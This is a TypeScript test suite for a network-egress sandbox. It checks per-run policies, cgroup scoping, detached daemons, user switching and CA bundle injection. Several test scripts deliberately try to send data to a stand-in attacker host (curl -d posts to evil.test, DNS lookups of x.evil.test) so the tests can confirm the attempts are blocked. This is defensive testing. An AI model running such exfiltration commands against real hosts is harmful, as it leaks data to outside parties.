/** Several runs at once, users, and places to start from. */

import assert from "node:assert/strict";
import { none, one, some } from "../support/log.ts";
import { suite } from "../support/suite.ts";
import { introduced, who } from "../support/who.ts";

const test = suite();

test("parallel: runs in one namespace hold each to its own policy", async (scene) => {
  const script = "curl -sS https://site.test/$0; curl -sS https://registry.test/$0; " +
    "dig +short +tries=1 git.test";
  const policies = ["site.test", "registry.test", "dns:git.test"];
  const runs = await Promise.all(
    policies.map((policy, index) =>
      scene.run({ policy, command: introduced(["sh", "-c", script, `run${index}`]) })
    ),
  );
  const [site, registry, git] = runs.map((run) => who(run.stdout));
  assert.equal(new Set([site?.run, registry?.run, git?.run]).size, 3);
  assert.equal(site?.rest.split("\n")[0], "GET /run0 0");
  assert.match(registry?.rest ?? "", /Not found/);
  assert.match(git?.rest ?? "", /198\.51\.100\.30/);
  for (const [index, run] of runs.entries()) {
    const cgroup = who(run.stdout).cgroup;
    for (const event of run.log) {
      if (event.cgroup !== undefined) assert.equal(event.cgroup, cgroup, `of run ${index}`);
    }
  }
  const requests = (await scene.received()).filter((item) => item.kind === "request");
  assert.deepEqual(requests.map((r) => r.url).sort(), [
    "https://registry.test/run1",
    "https://site.test/run0",
  ]);
});

test("parallel: the end of one run leaves the other working", async (scene) => {
  const fifo = `${scene.folder}/go`;
  const script = `mkfifo ${fifo}; echo waiting; read -r _ <${fifo}; ` +
    "curl -sS https://site.test/late; dig +short +tries=1 x.evil.test";
  const long = await scene.start({ policy: "site.test", command: ["sh", "-c", script] });
  await long.said(/waiting/);
  const short = await scene.run({ policy: "registry.test", command: ["true"] });
  assert.equal(short.status, 0, short.stderr);
  await Deno.writeTextFile(fifo, "\n");
  const run = await long.finished;
  assert.equal(run.stdout, "waiting\nGET /late 0\n", run.stderr);
  await scene.attackerGotNothing();
});

test("scope: processes outside are untouched", async (scene) => {
  const fifo = `${scene.folder}/go`;
  const script = `mkfifo ${fifo}; echo waiting; read -r _ <${fifo}`;
  const running = await scene.start({ policy: "site.test", command: ["sh", "-c", script] });
  await running.said(/waiting/);
  const [file = "", ...args] = scene.internet.command([
    ...["curl", "-sS", "--cacert", scene.internet.caFile, "https://registry.test/outside"],
  ]);
  const outside = await new Deno.Command(file, { args }).output();
  assert.match(new TextDecoder().decode(outside.stdout), /Not found/);
  await Deno.writeTextFile(fifo, "\n");
  none((await running.finished).log, { host: "registry.test" });
});

test("scope: a daemon that left its parent and session is still inside", async (scene) => {
  const script = `cd ${scene.folder}; mkfifo done; ` +
    "setsid sh -c 'curl -sS -o out http://site.test/daemon; " +
    "curl -s -d x --resolve evil.test:80:203.0.113.66 http://evil.test/; echo >done' & read -r _ <done";
  const run = await scene.run({ policy: "http://site.test/*", command: ["sh", "-c", script] });
  assert.equal(run.status, 0, run.stderr);
  assert.equal(await Deno.readTextFile(`${scene.folder}/out`), "GET /daemon 0\n");
  assert.equal(one(run.log, { type: "http", policy: "deny" }).exe, "/usr/bin/curl");
  await scene.attackerGotNothing();
});

test("user: COMMAND runs as --user says, with that user's groups and home", async (scene) => {
  const script =
    'id -un; echo "$HOME"; curl -sS https://site.test/u; dig +short +tries=1 x.evil.test';
  const run = await scene.run({
    policy: "site.test",
    args: ["--user", "nobody"],
    command: ["sh", "-c", script],
  });
  assert.match(run.stdout, /^nobody\n\S*nonexistent\nGET \/u 0\n/, run.stderr);
  assert.equal(some(run.log, { type: "https", policy: "allow" }).exe, "/usr/bin/curl");
  await scene.attackerGotNothing();
});

test("user: SUDO_USER is the default", async (scene) => {
  const run = await scene.run({
    policy: "site.test",
    env: { SUDO_USER: "nobody", SUDO_UID: "65534", SUDO_GID: "65534" },
    command: ["sh", "-c", "id -un; curl -sS https://site.test/s"],
  });
  assert.equal(run.stdout, "nobody\nGET /s 0\n", run.stderr);
});

test("place: works inside ip netns exec, where cgroups cannot be seen", async (scene) => {
  const script = "curl -sS https://site.test/n; dig +tries=1 +short x.evil.test; " +
    "curl -sS -d s --resolve evil.test:80:203.0.113.66 http://evil.test/ >/dev/null";
  const run = await scene.run({
    policy: "site.test",
    ipNetnsExec: true,
    command: ["sh", "-c", script],
  });
  assert.equal(run.stdout, "GET /n 0\n", run.stderr);
  const event = one(run.log, { type: "https", policy: "allow" });
  assert.equal(event.exe, "/usr/bin/curl");
  assert.match(event.cgroup ?? "", /egress-[0-9a-f]{8}/);
  await scene.attackerGotNothing();
});

test("place: COMMAND sees a CA bundle with the run's CA, and nobody else does", async (scene) => {
  const before = await Deno.readTextFile("/etc/ssl/certs/ca-certificates.crt");
  const fifo = `${scene.folder}/go`;
  const script = "cat /etc/ssl/certs/ca-certificates.crt; " +
    `env | grep -E '^(SSL_CERT_FILE|NODE_EXTRA_CA_CERTS|CURL_CA_BUNDLE|GIT_SSL_CAINFO)='; ` +
    `mkfifo ${fifo}; echo waiting; read -r _ <${fifo}`;
  const running = await scene.start({ policy: "site.test", command: ["sh", "-c", script] });
  const inside = await running.said(/waiting/);
  assert.equal(await Deno.readTextFile("/etc/ssl/certs/ca-certificates.crt"), before);
  const count = (text: string) => text.split("BEGIN CERTIFICATE").length - 1;
  assert.equal(count(inside), count(before) + 1);
  for (const name of ["SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO"]) {
    assert.match(inside, new RegExp(`^${name}=/`, "m"));
  }
  await Deno.writeTextFile(fifo, "\n");
  await running.finished;
});
